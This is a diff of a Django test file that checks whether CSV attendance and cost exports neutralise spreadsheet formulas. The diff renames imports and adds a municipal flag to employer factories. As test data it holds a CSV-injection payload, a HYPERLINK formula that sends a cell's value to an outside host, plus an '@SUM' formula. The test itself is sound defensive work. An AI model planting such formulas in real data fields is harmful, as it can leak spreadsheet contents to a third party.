@@ -11,10 +11,10 @@ from openpyxl import load_workbook
 
 from lotsa.cases.tests.factories import CaseFactory
 from lotsa.organisations.tests.factories import UserFactory
-from lotsa.work import placements as services
+from lotsa.work import services
 from lotsa.work.constants import AttendanceStatus, PlacementKind, PlacementStatus, SubsidyType
 from lotsa.work.models import Attendance
-from lotsa.work.tests.factories import EmployerFactory, install_catalogue
+from lotsa.work.tests.factories import EmployerFactory, catalogue_install
 
 pytestmark = pytest.mark.django_db
 
@@ -23,8 +23,8 @@ FORMULA = '=HYPERLINK("https://example.com/?"&A1;"Klicka")'
 
 def test_attendance_csv_neutralises_a_formula_in_the_name_and_note(client):
     case = CaseFactory(participant__first_name=FORMULA)
-    install_catalogue(case.organisation)
-    employer = EmployerFactory(organisation=case.organisation, name="@SUM(1+1)")
+    catalogue_install(case.organisation)
+    employer = EmployerFactory(organisation=case.organisation, name="@SUM(1+1)", municipal=True)
     monday = timezone.localdate() - timedelta(days=timezone.localdate().weekday() + 7)
     placement = services.placement_create(
         actor=case.coach,
@@ -53,13 +53,13 @@ def test_attendance_csv_neutralises_a_formula_in_the_name_and_note(client):
 
 def test_cost_exports_neutralise_a_formula_in_a_unit_name_and_keep_numbers(client):
     case = CaseFactory(unit__name=FORMULA)
-    install_catalogue(case.organisation)
+    catalogue_install(case.organisation)
     services.placement_create(
         actor=case.coach,
         case=case,
         kind=PlacementKind.EMPLOYMENT,
         subsidy_type=SubsidyType.OSA,
-        employer=EmployerFactory(organisation=case.organisation),
+        employer=EmployerFactory(organisation=case.organisation, municipal=True),
         starts_on=date(2025, 4, 16),
         ends_on=date(2025, 5, 31),
         hours_per_week="30",
